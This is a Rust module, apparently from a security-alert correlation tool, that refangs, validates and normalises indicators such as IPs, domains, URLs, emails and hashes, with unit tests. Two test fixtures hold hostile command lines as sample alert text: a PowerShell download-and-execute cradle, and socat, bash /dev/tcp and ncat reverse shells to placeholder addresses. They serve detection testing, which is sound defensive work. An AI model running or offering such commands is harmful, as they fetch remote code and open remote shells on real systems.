//! Typed entities: validated, normalised and de-duplicated, so that two alerts naming the
//! same thing name it with the same string. Defanged indicators (`hxxp://`, `1.2.3[.]4`,
//! `evil(dot)com`, `user[at]example.com`) are refanged first; anything that does not
//! validate as its kind is dropped rather than stored as a wrong fact.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use sleuth_domain::{Entity, EntityKind};

/// The longest entity value kept. Longer strings are not identifiers worth correlating on.
pub const MAX_VALUE_CHARS: usize = 2048;

/// The most entities one alert keeps; a hostile alert cannot blow up correlation tables.
pub const MAX_ENTITIES: usize = 200;

/// How much of a free text a sweep reads. Command lines and descriptions that name
/// indicators name them early; a hostile multi-megabyte text is not refanged and
/// tokenised whole (the entities it could yield are capped at [`MAX_ENTITIES`] anyway).
pub const MAX_SWEPT_BYTES: usize = 64 * 1024;

/// The longest prefix of `text` of at most `limit` bytes that ends on a character.
fn head(text: &str, limit: usize) -> &str {
    if text.len() <= limit {
        return text;
    }
    let end = (0..=limit)
        .rev()
        .find(|index| text.is_char_boundary(*index))
        .unwrap_or(0);
    &text[..end]
}

/// Undoes the usual defanging of indicators written in threat reports and mail gateways.
pub fn refang(text: &str) -> String {
    let mut out = text.trim().to_string();
    // Every defanged form below but " dot " has a bracket; most text has none, and is
    // then read twice rather than once per form.
    let bracketed = out.bytes().any(|byte| matches!(byte, b'[' | b'(' | b'{'));
    if !bracketed && !out.contains(" dot ") {
        return refang_scheme(out);
    }
    for (defanged, plain) in [
        ("[.]", "."),
        ("(.)", "."),
        ("{.}", "."),
        ("[dot]", "."),
        ("(dot)", "."),
        ("[DOT]", "."),
        ("(DOT)", "."),
        (" dot ", "."),
        ("[:]", ":"),
        ("[://]", "://"),
        ("[@]", "@"),
        ("[at]", "@"),
        ("(at)", "@"),
        ("[AT]", "@"),
        ("(AT)", "@"),
    ] {
        if out.contains(defanged) {
            out = out.replace(defanged, plain);
        }
    }
    refang_scheme(out)
}

/// `hxxp://` and `hxxps://` at the start, in any case, made `http://` and `https://`.
fn refang_scheme(mut out: String) -> String {
    for (defanged, plain) in [("hxxps://", "https://"), ("hxxp://", "http://")] {
        // `get` rather than slicing: the prefix may end inside a multi-byte character.
        if let (Some(prefix), Some(rest)) = (out.get(..defanged.len()), out.get(defanged.len()..))
            && prefix.eq_ignore_ascii_case(defanged)
        {
            out = format!("{plain}{rest}");
        }
    }
    out
}

/// The normalised form of `text` as an entity of `kind`, or `None` when it is not one.
pub fn normalize(kind: EntityKind, text: &str) -> Option<String> {
    let text = text.trim();
    // A character is at most four bytes: the byte length rules out a hostile megabyte
    // string at once, and `nth` counts no further than the limit.
    if text.len() > 4 * MAX_VALUE_CHARS
        || text.chars().nth(MAX_VALUE_CHARS).is_some()
        || crate::text::is_placeholder(text)
    {
        return None;
    }
    if text.chars().any(char::is_control) {
        return None;
    }
    match kind {
        EntityKind::Ip => normalize_ip(&refang(text)),
        EntityKind::Domain => normalize_domain(&refang(text)),
        EntityKind::Url => normalize_url(&refang(text)),
        EntityKind::Email => normalize_email(&refang(text)),
        EntityKind::HashMd5 => normalize_hash(text, 32),
        EntityKind::HashSha1 => normalize_hash(text, 40),
        EntityKind::HashSha256 => normalize_hash(text, 64),
        EntityKind::User => normalize_user(text),
        EntityKind::Host => normalize_host(text),
        EntityKind::Process | EntityKind::FilePath => Some(text.to_string()),
        EntityKind::CloudAccount | EntityKind::CloudResource => {
            (!text.contains(char::is_whitespace)).then(|| text.to_string())
        }
    }
}

/// The hash kind of a hex digest by its length.
pub fn hash_kind(text: &str) -> Option<EntityKind> {
    let text = text.trim();
    if !text.bytes().all(|byte| byte.is_ascii_hexdigit()) {
        return None;
    }
    match text.len() {
        32 => Some(EntityKind::HashMd5),
        40 => Some(EntityKind::HashSha1),
        64 => Some(EntityKind::HashSha256),
        _ => None,
    }
}

fn normalize_hash(text: &str, length: usize) -> Option<String> {
    let lowered = text.to_ascii_lowercase();
    let valid = lowered.len() == length
        && lowered.bytes().all(|byte| byte.is_ascii_hexdigit())
        // An all-zero digest is a placeholder, not a file.
        && lowered.bytes().any(|byte| byte != b'0');
    valid.then_some(lowered)
}

/// An IP address in canonical form. Accepts `addr:port` and `[v6]:port`; "1.2.3" and
/// "01.2.3.4" are not addresses; the unspecified address is not a thing to correlate on.
pub fn normalize_ip(text: &str) -> Option<String> {
    let text = text.trim();
    let address = parse_ip(text).or_else(|| {
        // "203.0.113.9:443" and "[2001:db8::1]:443".
        if let Some(rest) = text.strip_prefix('[') {
            return rest
                .split_once(']')
                .and_then(|(inside, _)| parse_ip(inside));
        }
        let (host, port) = text.rsplit_once(':')?;
        (host.contains('.') && port.parse::<u16>().is_ok())
            .then(|| parse_ip(host))
            .flatten()
    })?;
    let address = match address {
        IpAddr::V6(v6) => v6.to_ipv4_mapped().map_or(IpAddr::V6(v6), IpAddr::V4),
        v4 => v4,
    };
    (!address.is_unspecified()).then(|| address.to_string())
}

fn parse_ip(text: &str) -> Option<IpAddr> {
    // std rejects leading zeros in IPv4 octets, which is what we want: "010.0.0.1" is
    // ambiguous (octal to some tools) and never how a tool prints an address.
    text.parse::<IpAddr>().ok()
}

/// Where an address sits: the organisation's own ranges are a context question (the
/// engine asks the operator's CIDRs); this answers what the address is by definition.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum IpScope {
    /// RFC 1918, unique-local IPv6, and carrier-grade NAT: somebody's internal network.
    Private,
    Loopback,
    LinkLocal,
    /// Multicast, broadcast, reserved: not a host on the internet.
    Special,
    /// Routable on the internet. The documentation ranges (192.0.2.0/24, 198.51.100.0/24,
    /// 203.0.113.0/24, 2001:db8::/32) count as public: they stand in for internet
    /// addresses in examples and tests, and never appear in real traffic.
    Public,
}

/// The scope of a normalised IP address; `None` when it is not one.
pub fn ip_scope(text: &str) -> Option<IpScope> {
    Some(match text.parse::<IpAddr>().ok()? {
        IpAddr::V4(v4) => scope_v4(v4),
        IpAddr::V6(v6) => scope_v6(v6),
    })
}

fn scope_v4(address: Ipv4Addr) -> IpScope {
    let [first, second, ..] = address.octets();
    if address.is_loopback() {
        IpScope::Loopback
    } else if address.is_private() || (first == 100 && (64..128).contains(&second)) {
        IpScope::Private
    } else if address.is_link_local() {
        IpScope::LinkLocal
    } else if address.is_multicast() || address.is_broadcast() || first == 0 || first >= 240 {
        IpScope::Special
    } else {
        IpScope::Public
    }
}

fn scope_v6(address: Ipv6Addr) -> IpScope {
    let first = address.segments()[0];
    if address.is_loopback() {
        IpScope::Loopback
    } else if first & 0xfe00 == 0xfc00 {
        IpScope::Private
    } else if first & 0xffc0 == 0xfe80 {
        IpScope::LinkLocal
    } else if address.is_multicast() || address.is_unspecified() {
        IpScope::Special
    } else {
        IpScope::Public
    }
}

/// A domain name in lower case without a trailing dot, under a known public suffix.
/// "svchost.exe" and "file.txt" are not domains; "evil.co.uk" is.
pub fn normalize_domain(text: &str) -> Option<String> {
    let lowered = text.trim().trim_end_matches('.').to_ascii_lowercase();
    if lowered.len() > 253 || !lowered.contains('.') || parse_ip(&lowered).is_some() {
        return None;
    }
    let labels_valid = lowered.split('.').all(|label| {
        !label.is_empty()
            && label.len() <= 63
            && !label.starts_with('-')
            && !label.ends_with('-')
            && label
                .bytes()
                .all(|byte| byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'_')
    });
    if !labels_valid {
        return None;
    }
    if internal_name(&lowered) {
        return Some(lowered);
    }
    let domain = psl2::lookup(&lowered)?;
    (domain.is_known() && domain.registrable_domain().is_some()).then_some(lowered)
}

/// Top-level names reserved for internal and test use (RFC 2606 and 6761, ICANN's
/// `.internal`) and those internal networks commonly use: no public suffix list knows
/// them, and an organisation's own names live under them (`intranet.corp`, `git.internal`).
const INTERNAL_SUFFIXES: &[&str] = &[
    "example", "test", "internal", "corp", "local", "lan", "home", "intranet", "private",
];

/// A name of at least two labels under an internal top-level name.
fn internal_name(lowered: &str) -> bool {
    lowered
        .rsplit_once('.')
        .is_some_and(|(rest, top)| !rest.is_empty() && INTERNAL_SUFFIXES.contains(&top))
}

/// The registrable part of a domain ("mail.evil.co.uk" -> "evil.co.uk"): what an
/// allowlist entry or an intel match usually names.
pub fn registrable_domain(domain: &str) -> Option<&str> {
    psl2::lookup(domain)?.registrable_domain()
}

/// A URL with a lower-case scheme and host. Only web and file-transfer schemes: a
/// `javascript:` or `data:` string is not a place anyone visited.
pub fn normalize_url(text: &str) -> Option<String> {
    let text = text.trim();
    let (scheme, rest) = text.split_once("://")?;
    let scheme = scheme.to_ascii_lowercase();
    if !matches!(
        scheme.as_str(),
        "http" | "https" | "ftp" | "ftps" | "ws" | "wss"
    ) {
        return None;
    }
    if rest.contains(char::is_whitespace) {
        return None;
    }
    let authority_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let (authority, tail) = rest.split_at(authority_end);
    // Credentials in the authority are kept out of the host check, and out of the value.
    let host_port = authority
        .rsplit_once('@')
        .map_or(authority, |(_, host)| host);
    let host = host_port_host(host_port)?;
    let host_lowered = host.to_ascii_lowercase();
    let valid_host = normalize_ip(&host_lowered).is_some()
        || normalize_domain(&host_lowered).is_some()
        || normalize_host(&host_lowered).is_some();
    if !valid_host {
        return None;
    }
    let port = &host_port[host.len()..];
    Some(format!(
        "{scheme}://{}{port}{tail}",
        host_port[..host.len()].to_ascii_lowercase()
    ))
}

/// The host of an URL's `host[:port]`, brackets of IPv6 kept.
fn host_port_host(host_port: &str) -> Option<&str> {
    if host_port.starts_with('[') {
        let end = host_port.find(']')?;
        return Some(&host_port[..=end]);
    }
    let host = host_port.split(':').next()?;
    (!host.is_empty()).then_some(host)
}

/// The host part of a URL, as a domain or IP entity value.
pub fn url_host(url: &str) -> Option<(EntityKind, String)> {
    let (_, rest) = url.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host_port = authority
        .rsplit_once('@')
        .map_or(authority, |(_, host)| host);
    let host = host_port_host(host_port)?
        .trim_start_matches('[')
        .trim_end_matches(']');
    if let Some(ip) = normalize_ip(host) {
        return Some((EntityKind::Ip, ip));
    }
    normalize_domain(host).map(|domain| (EntityKind::Domain, domain))
}

/// An email address in lower case, with a valid domain.
pub fn normalize_email(text: &str) -> Option<String> {
    let text = text
        .trim()
        .trim_start_matches("mailto:")
        .trim_start_matches('<')
        .trim_end_matches('>');
    let (local, domain) = text.rsplit_once('@')?;
    let local_valid = !local.is_empty()
        && local.len() <= 64
        && !local.contains(char::is_whitespace)
        && !local.contains(['<', '>', '(', ')', ',', ';', ':', '"', '@', '\\']);
    if !local_valid {
        return None;
    }
    let domain = normalize_domain(domain)?;
    Some(format!("{}@{domain}", local.to_lowercase()))
}

/// A user account in lower case ("CORP\\R.Patel" -> "corp\\r.patel"). Machine accounts
/// and well-known system principals are not users worth correlating on.
pub fn normalize_user(text: &str) -> Option<String> {
    let lowered = text.trim().to_lowercase();
    if lowered.len() > 256 || lowered.contains(['\n', '\r', '\t']) {
        return None;
    }
    // The Windows service principals every process tree is full of, and machine
    // accounts ("WKS-0231$"), are not people to correlate on. "root" is kept: on Linux
    // it is the account that matters most.
    let bare = user_base_name(&lowered);
    let service_principal = matches!(
        bare,
        "system" | "local service" | "network service" | "anonymous logon"
    ) || bare.ends_with('$');
    if service_principal || bare.is_empty() {
        return None;
    }
    Some(lowered)
}

/// The account name without its domain ("corp\\r.patel" and "r.patel@corp.com" ->
/// "r.patel"), for matching a user across tools that qualify it differently.
pub fn user_base_name(user: &str) -> &str {
    let without_domain = user.rsplit_once('\\').map_or(user, |(_, name)| name);
    without_domain
        .split_once('@')
        .map_or(without_domain, |(name, _)| name)
}

/// A host name in lower case. Host names need no public suffix ("wks-0231"), but they
/// are one token of letters, digits, dots, hyphens and underscores.
pub fn normalize_host(text: &str) -> Option<String> {
    let lowered = text.trim().trim_end_matches('.').to_lowercase();
    let valid = !lowered.is_empty()
        && lowered.len() <= 253
        && lowered
            .chars()
            .all(|character| character.is_alphanumeric() || matches!(character, '-' | '_' | '.'));
    valid.then_some(lowered)
}

/// The entities of one alert, in the order found, each once.
#[derive(Debug, Clone, Default)]
pub struct Entities {
    list: Vec<Entity>,
}

impl Entities {
    /// Adds `text` as `kind` when it validates; returns whether it was kept.
    pub fn add(&mut self, kind: EntityKind, text: &str) -> bool {
        let Some(value) = normalize(kind, text) else {
            return false;
        };
        // A URL also names its host; correlation on the domain finds the other alerts.
        let host = (kind == EntityKind::Url)
            .then(|| url_host(&value))
            .flatten();
        // An account named by its address is also that address: mail reaches it, intel and
        // the operator's lists name it that way.
        let address = (kind == EntityKind::User)
            .then(|| normalize_email(&value))
            .flatten();
        self.push(Entity::new(kind, value));
        if let Some((host_kind, host)) = host {
            self.push(Entity::new(host_kind, host));
        }
        if let Some(address) = address {
            self.push(Entity::new(EntityKind::Email, address));
        }
        // An email names its domain only implicitly; the engine derives it when it
        // matters (sender domains), so a recipient list does not flood the entities.
        true
    }

    /// Adds a hex digest as whichever hash kind its length says.
    pub fn add_hash(&mut self, text: &str) -> bool {
        hash_kind(text).is_some_and(|kind| self.add(kind, text))
    }

    /// A host that may be written as an IP address is stored as the IP.
    pub fn add_host(&mut self, text: &str) -> bool {
        if normalize_ip(text).is_some() {
            return self.add(EntityKind::Ip, text);
        }
        self.add(EntityKind::Host, text)
    }

    /// Finds the URLs, email addresses, IP addresses and hashes written inside free text
    /// (a command line, a description). Bare domains are not taken from free text:
    /// "invoice.zip" and "setup.exe" are file names far more often than hosts.
    pub fn sweep(&mut self, text: &str) {
        if self.list.len() >= MAX_ENTITIES {
            return;
        }
        let refanged = refang(head(text, MAX_SWEPT_BYTES));
        for token in refanged.split(|character: char| {
            character.is_whitespace()
                || matches!(
                    character,
                    '"' | '\'' | '<' | '>' | '`' | '(' | ')' | '{' | '}' | '[' | ']'
                )
        }) {
            if self.list.len() >= MAX_ENTITIES {
                return;
            }
            let token = token
                .trim_matches(|character: char| matches!(character, '.' | ',' | ';' | ':' | '|'));
            if token.len() < 7 {
                continue;
            }
            if token.contains("://") {
                let start = token
                    .find(|character: char| character.is_ascii_alphabetic())
                    .unwrap_or(0);
                self.add(EntityKind::Url, &token[start..]);
                continue;
            }
            for part in token.split(['=', ',', ';', '|']) {
                let part = part.trim_matches(|character: char| matches!(character, '.' | ':'));
                if part.contains('@') {
                    self.add(EntityKind::Email, part);
                } else if hash_kind(part).is_some() {
                    self.add_hash(part);
                } else if part
                    .bytes()
                    .next()
                    .is_some_and(|byte| byte.is_ascii_digit() || byte == b'[')
                    || part.contains(':')
                {
                    if !self.add(EntityKind::Ip, part) {
                        self.add_embedded_ipv4(part);
                    }
                } else if part.contains('/') {
                    // `/dev/tcp/203.0.113.7/4444`, `tcp/203.0.113.7`.
                    self.add_embedded_ipv4(part);
                }
            }
        }
    }

    /// The IPv4 addresses inside a token that is not one as a whole: `TCP:203.0.113.7:4444`
    /// (socat), `/dev/tcp/203.0.113.7/4444` (bash), `ssh://user@…` handled elsewhere.
    fn add_embedded_ipv4(&mut self, token: &str) {
        for piece in token.split([':', '/']) {
            let dotted_quad = piece.contains('.')
                && piece
                    .bytes()
                    .all(|byte| byte.is_ascii_digit() || byte == b'.');
            if dotted_quad {
                self.add(EntityKind::Ip, piece);
            }
        }
    }

    fn push(&mut self, entity: Entity) {
        if self.list.len() < MAX_ENTITIES && !self.list.contains(&entity) {
            self.list.push(entity);
        }
    }

    pub fn contains(&self, kind: EntityKind, value: &str) -> bool {
        self.list
            .iter()
            .any(|entity| entity.kind == kind && entity.value == value)
    }

    pub fn len(&self) -> usize {
        self.list.len()
    }

    pub fn is_empty(&self) -> bool {
        self.list.is_empty()
    }

    pub fn into_vec(self) -> Vec<Entity> {
        self.list
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(kind: EntityKind, input: &str, expected: Option<&str>) {
        assert_eq!(
            normalize(kind, input).as_deref(),
            expected,
            "{kind} {input:?}"
        );
    }

    #[test]
    fn ips_validate_strictly_and_normalise() {
        check(EntityKind::Ip, "203.0.113.9", Some("203.0.113.9"));
        check(EntityKind::Ip, " 203.0.113.9 ", Some("203.0.113.9"));
        check(EntityKind::Ip, "203.0.113[.]9", Some("203.0.113.9"));
        check(EntityKind::Ip, "203.0.113.9:443", Some("203.0.113.9"));
        check(EntityKind::Ip, "2001:DB8::0:1", Some("2001:db8::1"));
        check(EntityKind::Ip, "[2001:db8::1]:443", Some("2001:db8::1"));
        check(EntityKind::Ip, "::ffff:198.51.100.7", Some("198.51.100.7"));
        check(EntityKind::Ip, "1.2.3", None);
        check(EntityKind::Ip, "256.1.1.1", None);
        check(EntityKind::Ip, "010.0.0.1", None);
        check(EntityKind::Ip, "0.0.0.0", None);
        check(EntityKind::Ip, "wks-0231", None);
    }

    #[test]
    fn internal_and_public_addresses_are_told_apart() {
        assert_eq!(ip_scope("10.20.30.40"), Some(IpScope::Private));
        assert_eq!(ip_scope("192.168.1.5"), Some(IpScope::Private));
        assert_eq!(ip_scope("100.64.0.1"), Some(IpScope::Private));
        assert_eq!(ip_scope("fd00::1"), Some(IpScope::Private));
        assert_eq!(ip_scope("127.0.0.1"), Some(IpScope::Loopback));
        assert_eq!(ip_scope("169.254.169.254"), Some(IpScope::LinkLocal));
        assert_eq!(ip_scope("224.0.0.251"), Some(IpScope::Special));
        assert_eq!(ip_scope("8.8.8.8"), Some(IpScope::Public));
        assert_eq!(ip_scope("203.0.113.9"), Some(IpScope::Public));
        assert_eq!(ip_scope("2606:4700::1111"), Some(IpScope::Public));
        assert_eq!(ip_scope("not an ip"), None);
    }

    #[test]
    fn domains_need_a_known_public_suffix() {
        check(
            EntityKind::Domain,
            "Evil-Login.Example.COM.",
            Some("evil-login.example.com"),
        );
        check(EntityKind::Domain, "evil[.]co[.]uk", Some("evil.co.uk"));
        check(
            EntityKind::Domain,
            "login(dot)example(dot)net",
            Some("login.example.net"),
        );
        check(EntityKind::Domain, "svchost.exe", None);
        check(EntityKind::Domain, "report.docx", None);
        check(EntityKind::Domain, "co.uk", None);
        check(EntityKind::Domain, "localhost", None);
        // Internal and test names have no public suffix, and are domains all the same.
        check(EntityKind::Domain, "Intranet.Corp", Some("intranet.corp"));
        check(
            EntityKind::Domain,
            "git.build.internal",
            Some("git.build.internal"),
        );
        check(
            EntityKind::Domain,
            "holdout.example",
            Some("holdout.example"),
        );
        check(EntityKind::Domain, "example", None);
        check(EntityKind::Domain, "setup.exe", None);
        check(EntityKind::Domain, "203.0.113.9", None);
        check(EntityKind::Domain, "bad_label-.com", None);
        assert_eq!(registrable_domain("mail.evil.co.uk"), Some("evil.co.uk"));
    }

    #[test]
    fn urls_are_refanged_and_their_hosts_lowered() {
        check(
            EntityKind::Url,
            "hxxps://Login-Portal[.]Example.net/Reset?id=A1",
            Some("https://login-portal.example.net/Reset?id=A1"),
        );
        check(
            EntityKind::Url,
            "http://203.0.113.9:8080/x",
            Some("http://203.0.113.9:8080/x"),
        );
        check(EntityKind::Url, "javascript:alert(1)", None);
        check(EntityKind::Url, "https://", None);
        check(EntityKind::Url, "https://exa mple.com/", None);
    }

    #[test]
    fn emails_users_and_hosts_normalise_to_lower_case() {
        check(
            EntityKind::Email,
            "R.Patel@Example.com",
            Some("r.patel@example.com"),
        );
        check(
            EntityKind::Email,
            "r.patel[at]example[.]com",
            Some("r.patel@example.com"),
        );
        check(
            EntityKind::Email,
            "<billing@evil.co.uk>",
            Some("billing@evil.co.uk"),
        );
        check(EntityKind::Email, "not-an-email", None);
        check(EntityKind::Email, "a@b", None);
        check(EntityKind::User, "CORP\\R.Patel", Some("corp\\r.patel"));
        check(EntityKind::User, "NT AUTHORITY\\SYSTEM", None);
        check(EntityKind::User, "root", Some("root"));
        check(
            EntityKind::Host,
            "WKS-0231.corp.example.com",
            Some("wks-0231.corp.example.com"),
        );
        check(EntityKind::Host, "two words", None);
        assert_eq!(user_base_name("corp\\r.patel"), "r.patel");
        assert_eq!(user_base_name("r.patel@example.com"), "r.patel");
    }

    #[test]
    fn hashes_are_typed_by_length_and_lowered() {
        let sha256 = "A".repeat(64);
        check(EntityKind::HashSha256, &sha256, Some(&"a".repeat(64)));
        check(EntityKind::HashMd5, &"0".repeat(32), None);
        check(EntityKind::HashMd5, "xyz", None);
        assert_eq!(hash_kind(&"b".repeat(40)), Some(EntityKind::HashSha1));
        assert_eq!(hash_kind("g".repeat(32).as_str()), None);
    }

    #[test]
    fn a_sweep_finds_indicators_in_free_text_but_not_file_names() {
        let mut entities = Entities::default();
        entities.sweep(
            "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('hxxp://198.51.100.23/a.ps1')\" \
             then ran invoice.zip; beacon to 203.0.113[.]50:443 and mail to ops@evil.co.uk, \
             dropped 44d88612fea8a8f36de82e1278abb02f",
        );
        let found = entities.into_vec();
        let has = |kind: EntityKind, value: &str| {
            found
                .iter()
                .any(|entity| entity.kind == kind && entity.value == value)
        };
        assert!(
            has(EntityKind::Url, "http://198.51.100.23/a.ps1"),
            "{found:?}"
        );
        assert!(has(EntityKind::Ip, "198.51.100.23"), "{found:?}");
        assert!(has(EntityKind::Ip, "203.0.113.50"), "{found:?}");
        assert!(has(EntityKind::Email, "ops@evil.co.uk"), "{found:?}");
        assert!(
            has(EntityKind::HashMd5, "44d88612fea8a8f36de82e1278abb02f"),
            "{found:?}"
        );
        assert!(
            !found.iter().any(|entity| entity.value.contains("invoice")),
            "{found:?}"
        );
    }

    #[test]
    fn addresses_inside_socket_notations_are_found() {
        let mut entities = Entities::default();
        entities.sweep(
            "socat TCP:198.51.100.61:4444 EXEC:/bin/bash; bash -i >& /dev/tcp/203.0.113.77/4444 0>&1; \
             ncat 192.0.2.9:8443; see /usr/lib/python3.11/x",
        );
        for ip in ["198.51.100.61", "203.0.113.77", "192.0.2.9"] {
            assert!(entities.contains(EntityKind::Ip, ip), "{ip}: {entities:?}");
        }
        assert_eq!(entities.len(), 3, "{entities:?}");
    }

    #[test]
    fn an_account_named_by_its_address_is_also_that_address() {
        let mut entities = Entities::default();
        entities.add(EntityKind::User, "Maria@Contoso.com");
        entities.add(EntityKind::User, "corp\\maria");
        assert!(entities.contains(EntityKind::User, "maria@contoso.com"));
        assert!(entities.contains(EntityKind::Email, "maria@contoso.com"));
        assert_eq!(entities.len(), 3, "{entities:?}");
    }

    #[test]
    fn entities_are_kept_once_and_capped() {
        let mut entities = Entities::default();
        assert!(entities.add(EntityKind::Ip, "203.0.113.9"));
        assert!(entities.add(EntityKind::Ip, "203.0.113.9:80"));
        assert_eq!(entities.len(), 1);
        for index in 0..1000 {
            entities.add(EntityKind::Host, &format!("host-{index}"));
        }
        assert_eq!(entities.len(), MAX_ENTITIES);
    }

    #[test]
    fn non_ascii_text_never_panics_and_stays_unrefanged() {
        for text in [
            "ΩΩΩΩΩΩΩΩ@evil.com",
            "hxxpΩ://x",
            "ΩΩΩΩ",
            "h",
            "hxxps://ü.example.com/",
        ] {
            let _ = refang(text);
            for kind in EntityKind::ALL {
                let _ = normalize(*kind, text);
            }
            let mut entities = Entities::default();
            entities.sweep(text);
        }
        assert_eq!(refang("hxxps://ü"), "https://ü");
    }

    /// The inputs that used to panic in `refang` (it sliced at byte 7 or 8, inside a
    /// multi-byte character) and that parsers once filtered out themselves: every defang
    /// marker next to characters of two, three and four bytes, at every offset around
    /// the `hxxp://` prefix, through refang, every kind's normalisation and the sweep.
    #[test]
    fn multi_byte_text_next_to_defang_markers_is_handled_here() {
        let markers = [
            "hxxp://", "hxxps://", "HXXP://", "hxxp", "[.]", "(.)", "{.}", "[dot]", "(dot)",
            "(DOT)", " dot ", "[:]", "[://]", "[@]", "[at]", "(at)", "(AT)",
        ];
        let characters = [
            "é", "Ω", "Ж", "中", "\u{200B}", "\u{202E}", "\u{FEFF}", "🦀",
        ];
        for marker in markers {
            for character in characters {
                for before in 0..9 {
                    for after in 0..3 {
                        let text = format!(
                            "{}{marker}{}evil.example",
                            character.repeat(before),
                            character.repeat(after)
                        );
                        let refanged = refang(&text);
                        assert!(!refanged.is_empty(), "{text:?}");
                        for kind in EntityKind::ALL {
                            if let Some(value) = normalize(*kind, &text) {
                                assert!(!value.is_empty(), "{kind} {text:?}");
                            }
                        }
                        let mut entities = Entities::default();
                        entities.sweep(&text);
                        entities.sweep(&format!("see {text} and {text}@{text}"));
                        entities.add(EntityKind::Url, &format!("hxxps://{text}/x"));
                    }
                }
            }
        }
        // The text the Microsoft parsers used to mark or drop reads as itself.
        assert_eq!(refang("Программа.exe -x"), "Программа.exe -x");
        assert_eq!(refang("[.][.][.][.]ЖЖЖЖ"), "....ЖЖЖЖ");
        assert_eq!(refang("ΩΩΩΩ[@]evil[.]com"), "ΩΩΩΩ@evil.com");
        check(
            EntityKind::Email,
            "ΩΩΩΩΩΩΩΩ@evil.com",
            Some("ωωωωωωωω@evil.com"),
        );
        check(EntityKind::Url, "hxxp://ΩΩΩΩ", Some("http://ΩΩΩΩ"));
        let mut entities = Entities::default();
        entities.sweep("Программа.exe hxxp://198.51.100[.]23/ü.ps1 ΩΩΩ");
        assert!(
            entities.contains(EntityKind::Url, "http://198.51.100.23/ü.ps1"),
            "{entities:?}"
        );
    }

    #[test]
    fn a_sweep_reads_the_head_of_a_huge_text_and_cuts_on_a_character() {
        let mut entities = Entities::default();
        let filler = "é".repeat(MAX_SWEPT_BYTES);
        entities.sweep(&format!("ip 203.0.113.9 {filler} 198.51.100.7"));
        assert!(entities.contains(EntityKind::Ip, "203.0.113.9"));
        assert!(!entities.contains(EntityKind::Ip, "198.51.100.7"));
        assert_eq!(head("aé", 2), "a");
        assert_eq!(head("aé", 3), "aé");
        assert_eq!(head("", 0), "");
    }

    #[test]
    fn control_characters_and_placeholders_never_become_entities() {
        check(EntityKind::User, "alice\u{0}", None);
        check(EntityKind::Host, "N/A", None);
        check(EntityKind::Process, "-", None);
        check(EntityKind::FilePath, &"a".repeat(MAX_VALUE_CHARS + 1), None);
    }
}
